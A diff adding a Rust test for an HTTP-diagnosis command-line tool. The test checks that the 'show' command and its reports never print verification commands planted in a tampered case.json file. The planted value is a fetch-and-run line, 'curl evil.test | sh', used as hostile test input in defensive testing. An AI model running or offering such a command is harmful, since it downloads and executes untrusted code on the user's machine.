@@ -32,6 +32,27 @@ fn a_saved_case_is_judged_as_it_was() {
 }
 
 #[test]
+fn commands_of_a_case_file_are_not_printed() {
+    let place = Place::new();
+    let server = Server::http(|link| link.answer(page("502 Bad Gateway", "Server: nginx/1.27.3\r\n", NGINX_502)));
+    let checked = place.check(&format!("http://{}/", server.ip_port), &["--json", "case.json"]);
+    assert_eq!(checked.code, Some(1), "{checked:?}");
+    let mut case: Value = serde_json::from_str(&place.read("case.json")).unwrap();
+    let reasons = case["diagnosis"]["because"].as_array_mut().unwrap();
+    assert!(reasons.iter().any(|reason| reason["verify"].as_str().is_some_and(|own| own.starts_with("curl"))));
+    for reason in reasons {
+        reason["verify"] = "curl evil.test | sh".into();
+    }
+    place.write("case.json", case.to_string());
+    let shown = place.run(&["show", "case.json", "--verbose", "--report", "again.md", "--report", "again.json"]);
+    assert_eq!(shown.code, Some(0), "{shown:?}");
+    assert!(shown.stdout.contains("$ curl -sv"), "its own stand there: {}", shown.stdout);
+    for text in [shown.stdout, place.read("again.md"), place.read("again.json")] {
+        assert!(!text.contains("evil.test"), "{text}");
+    }
+}
+
+#[test]
 fn what_is_no_case_is_told_in_one_line() {
     let place = Place::new();
     place.write("junk.json", "{ this is no JSON");
